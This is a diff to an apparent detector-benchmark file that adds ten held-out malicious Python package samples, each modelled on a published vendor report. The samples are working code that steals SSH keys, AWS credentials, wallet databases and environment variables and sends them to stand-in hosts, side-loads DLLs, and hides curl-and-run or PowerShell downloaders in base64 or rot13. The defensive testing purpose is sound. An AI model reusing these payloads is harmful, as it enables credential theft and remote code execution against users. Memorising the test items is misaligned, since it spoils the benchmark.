@@ -11,6 +11,7 @@ Imported by bench/recall.py (`--set heldout`). Each entry:
 (name, kind, {path: content}, what it does, source, classes it exercises).
 """
 import base64
+import codecs
 import zlib
 
 B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731
@@ -813,6 +814,169 @@ SAMPLES = [
      "executable downloaded from a raw IP and started on import",
      "Phylum, django-log-tracker compromise (2024)",
      ["download-run", "shady-links", "import-time"]),
+    # --- fifth held-out batch (2026-12-01, helper "recall5"): written and committed before any
+    # detector change of the fifth round, measured on the base build with counts only.
+
+    # ReversingLabs, "SentinelSneak" (2022): a look-alike of a vendor's SDK whose client module,
+    # imported by the package, gathers shell history, SSH keys, git config and cloud credentials
+    # into an archive and uploads it to a hard-coded address.
+    ("demo-sentinelsneak", "wheel", {
+        "demo_sentinelsneak/__init__.py": "from .sentinelone import SentinelOneClient\n",
+        "demo_sentinelsneak/sentinelone.py": "import os, io, glob, zipfile, requests\n"
+        "class SentinelOneClient:\n    def __init__(self, url=None):\n        self.url = url\n"
+        "def _collect():\n"
+        "    home = os.path.expanduser('~')\n"
+        "    wanted = ['.bash_history', '.zsh_history', '.gitconfig', '.aws/credentials', '.aws/config']\n"
+        "    wanted += [os.path.relpath(p, home) for p in glob.glob(os.path.join(home, '.ssh', '*'))]\n"
+        "    buf = io.BytesIO()\n"
+        "    with zipfile.ZipFile(buf, 'w') as z:\n"
+        "        for rel in wanted:\n"
+        "            full = os.path.join(home, rel)\n"
+        "            if os.path.isfile(full):\n"
+        "                z.write(full, rel)\n"
+        "    return buf.getvalue()\n"
+        "try:\n"
+        "    requests.post('http://198.51.100.14:8080/upload', files={'f': ('data.zip', _collect())}, timeout=10)\n"
+        "except Exception:\n    pass\n"},
+     "SDK look-alike zips shell history, SSH keys, git and AWS credentials and uploads them on import",
+     "ReversingLabs, SentinelSneak (2022)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # ReversingLabs, "bitcoinlibdbfix" / "bitcoinlib-dev" (2025): "fixes" for a wallet library
+    # whose install step overwrites the library's `clw` command with a script that first uploads
+    # the wallet database.
+    ("demo-clw-overwrite", "sdist", {"setup.py":
+        "import os, shutil, sysconfig\n" + HOOK +
+        "CLW = '''#!/usr/bin/env python3\n"
+        "import os, requests\n"
+        "db = os.path.expanduser('~/.bitcoinlib/database/bitcoinlib.sqlite')\n"
+        "if os.path.exists(db):\n"
+        "    requests.post('https://dbfix-sync.example-cdn.top/u', files={'db': open(db, 'rb')})\n"
+        "from bitcoinlib.tools.clw import main\nmain()\n'''\n"
+        "class Fix(install):\n    def run(self):\n        install.run(self)\n"
+        "        target = os.path.join(sysconfig.get_paths()['scripts'], 'clw')\n"
+        "        with open(target, 'w') as f:\n            f.write(CLW)\n"
+        "        os.chmod(target, 0o755)\n"
+        "setup(name='demo-clw-overwrite', version='0.6.16', cmdclass={'install': Fix})\n"},
+     "install hook overwrites a wallet tool's command with one that uploads the wallet database",
+     "ReversingLabs, bitcoinlibdbfix / bitcoinlib-dev (2025)",
+     ["credential-theft", "exfiltration", "install-anomaly"]),
+
+    # ReversingLabs, NP6HelperHttptest / NP6HelperHttper (2023): typosquats of a vendor's helper
+    # whose setup.py downloads a signed, legitimate executable and a malicious DLL of the name it
+    # loads into one folder, then starts the executable (DLL side-loading).
+    ("demo-np6-sideload", "sdist", {"setup.py":
+        "import os, subprocess, urllib.request\n" + HOOK +
+        "def _prep():\n"
+        "    d = os.path.join(os.environ.get('LOCALAPPDATA', os.path.expanduser('~')), 'NP6Helper')\n"
+        "    os.makedirs(d, exist_ok=True)\n"
+        "    for n in ('ComServer.exe', 'dgdeskband64.dll'):\n"
+        "        urllib.request.urlretrieve('https://np6-update.example-files.net/' + n, os.path.join(d, n))\n"
+        "    subprocess.Popen([os.path.join(d, 'ComServer.exe')], creationflags=0x08000000)\n"
+        "class I(install):\n    def run(self):\n        if os.name == 'nt':\n            _prep()\n        install.run(self)\n"
+        "setup(name='demo-np6-sideload', version='1.0.3', cmdclass={'install': I})\n"},
+     "signed executable and a look-alike DLL downloaded side by side, executable started at install",
+     "ReversingLabs, NP6HelperHttptest DLL side-loading (2023)",
+     ["native-injection", "download-run"]),
+
+    # Unit 42, Lazarus "PondRAT" packages (real-ids, coloredtxt, beautifultext, minisound, 2024):
+    # the package's __init__ decodes a base64 shell command that fetches a binary with curl into a
+    # hidden file, marks it executable and runs it.
+    ("demo-pondrat", "wheel", {"demo_pondrat/__init__.py":
+        "import os, base64\n"
+        "__version__ = '0.1.1'\n"
+        "_c = '" + B64("curl -k -o /tmp/.cache_up https://198.51.100.77/pond/up && chmod +x /tmp/.cache_up && /tmp/.cache_up &") + "'\n"
+        "if os.name == 'posix':\n"
+        "    os.system(base64.b64decode(_c).decode())\n"},
+     "base64 shell command in __init__ downloads a binary into a hidden temp file and runs it",
+     "Unit 42, Lazarus PondRAT packages (2024)",
+     ["decode-run", "download-run", "import-time"]),
+
+    # Socket, "sympy-dev" (2025): a look-alike of a maths library whose polynomial helpers, when
+    # called, fetch a miner's configuration and binary and run the binary from memory.
+    ("demo-sympy-dev", "wheel", {"demo_sympy_dev/polys.py":
+        "import os, json, urllib.request\n"
+        "def _stage():\n"
+        "    cfg = json.loads(urllib.request.urlopen('http://198.51.100.31/cfg.json').read())\n"
+        "    elf = urllib.request.urlopen(cfg['bin']).read()\n"
+        "    fd = os.memfd_create('kworker', 0)\n    os.write(fd, elf)\n"
+        "    if os.fork() == 0:\n        os.execv('/proc/self/fd/%d' % fd, ['kworker', '-c', json.dumps(cfg)])\n"
+        "def groebner(F, *gens, **args):\n    _stage()\n    return list(F)\n",
+        "demo_sympy_dev/__init__.py": "from .polys import groebner\n"},
+     "polynomial helper fetches a miner and runs it from an in-memory file when called",
+     "Socket, sympy-dev (2025)",
+     ["download-run"]),
+
+    # Check Point Research, CloudGuard Spectral's ten packages (2022): pyg-utils / pymocks /
+    # PyProto2 read the AWS credentials file and key variables at install and send them out.
+    ("demo-pyg-utils", "sdist", {"setup.py":
+        "import os, json, urllib.request\nfrom setuptools import setup\n"
+        "def _creds():\n"
+        "    out = {k: v for k, v in os.environ.items() if k.startswith('AWS_')}\n"
+        "    p = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
+        "    if os.path.exists(p):\n        out['file'] = open(p).read()\n"
+        "    return out\n"
+        "try:\n"
+        "    urllib.request.urlopen('https://pygutils-aws.example-stats.cc/c', json.dumps(_creds()).encode(), timeout=5)\n"
+        "except Exception:\n    pass\n"
+        "setup(name='demo-pyg-utils', version='0.0.3')\n"},
+     "setup.py sends the AWS credentials file and AWS_* variables out at install",
+     "Check Point Research, CloudGuard Spectral's ten PyPI packages (2022)",
+     ["credential-theft", "exfiltration"]),
+
+    # Kroll, "colourfool" (2022): setup.py downloads a Python RAT/stealer from a chat CDN,
+    # saves it next to the user's files with a harmless name and runs it hidden.
+    ("demo-colourfool", "sdist", {"setup.py":
+        "import os, sys, subprocess, requests\n" + HOOK +
+        "class I(install):\n    def run(self):\n"
+        "        r = requests.get('https://cdn.discordapp.com/attachments/1009/1010/Color.py')\n"
+        "        p = os.path.join(os.getenv('APPDATA', os.path.expanduser('~')), 'Color.pyw')\n"
+        "        with open(p, 'wb') as f:\n            f.write(r.content)\n"
+        "        subprocess.Popen([sys.executable.replace('python.exe', 'pythonw.exe'), p])\n"
+        "        install.run(self)\n"
+        "setup(name='demo-colourfool', version='1.0', cmdclass={'install': I})\n"},
+     "install hook downloads a Python stealer from a chat CDN and runs it windowless",
+     "Kroll, colourfool (2022)",
+     ["download-run", "shady-links"]),
+
+    # Sonatype, "maratlib" cryptominer family (2021): obfuscated setup.py whose decoded command
+    # pipes a downloaded shell script into bash during install.
+    ("demo-maratlib", "sdist", {"setup.py":
+        "import os, codecs\nfrom setuptools import setup\n"
+        "_k = '" + codecs.encode("curl -s https://github.example.org/marattics/marattics/raw/main/aza2.sh | bash", "rot13") + "'\n"
+        "os.system(codecs.decode(_k, 'rot13'))\n"
+        "setup(name='demo-maratlib', version='0.6')\n"},
+     "rot13-hidden `curl ... | bash` run by setup.py at install",
+     "Sonatype, maratlib cryptominer packages (2021)",
+     ["decode-run", "download-run"]),
+
+    # Kaspersky, pyrologin / easytimestamp / discorder / style.py (2022): setup.py starts a
+    # hidden PowerShell with an encoded command that downloads an archive, unpacks it into the
+    # temp directory and runs the stealer inside.
+    ("demo-pyrologin", "sdist", {"setup.py":
+        "import base64, subprocess\n" + HOOK +
+        "_PS = \"Invoke-WebRequest -Uri 'https://transfer.example-share.io/v/lib.zip' -OutFile $env:TEMP\\\\l.zip; "
+        "Expand-Archive $env:TEMP\\\\l.zip -DestinationPath $env:TEMP\\\\l -Force; Start-Process $env:TEMP\\\\l\\\\update.exe\"\n"
+        "class I(install):\n    def run(self):\n"
+        "        enc = base64.b64encode(_PS.encode('utf-16-le')).decode()\n"
+        "        subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', enc])\n"
+        "        install.run(self)\n"
+        "setup(name='demo-pyrologin', version='0.1', cmdclass={'install': I})\n"},
+     "install hook encodes and starts a hidden PowerShell that downloads, unpacks and runs an exe",
+     "Kaspersky, pyrologin / discorder / style.py (2022)",
+     ["download-run", "decode-run"]),
+
+    # Check Point Research, same report (2022): free-net-vpn / free-net-vpn2 send the user's
+    # environment variables to a hard-coded host when the package is imported.
+    ("demo-free-net-vpn", "wheel", {"demo_free_net_vpn/__init__.py":
+        "import os, threading, http.client, json\n"
+        "def _report():\n"
+        "    c = http.client.HTTPSConnection('freenetvpn-api.example-app.ml', timeout=5)\n"
+        "    c.request('POST', '/v', body=json.dumps(dict(os.environ)), headers={'Content-Type': 'application/json'})\n"
+        "threading.Thread(target=_report, daemon=True).start()\n"},
+     "environment variables posted over http.client from a thread started on import",
+     "Check Point Research, CloudGuard Spectral's ten PyPI packages (2022)",
+     ["exfiltration", "credential-theft", "import-time"]),
 ]
 
 # The samples added by each round that marks them (bench/recall.py prints their count apart,
@@ -821,4 +985,6 @@ ROUNDS = {name: "round 4" for name in (
     "demo-nullifai", "demo-pip-main-pickle", "demo-iconcache", "demo-revival", "demo-silentsync",
     "demo-deepseeek", "demo-mexc-patch", "demo-soopsocks", "demo-whitesnake", "demo-larpexodus",
     "demo-log-tracker")}
-
+ROUNDS.update({name: "round 5" for name in (
+    "demo-sentinelsneak", "demo-clw-overwrite", "demo-np6-sideload", "demo-pondrat", "demo-sympy-dev",
+    "demo-pyg-utils", "demo-colourfool", "demo-maratlib", "demo-pyrologin", "demo-free-net-vpn")})
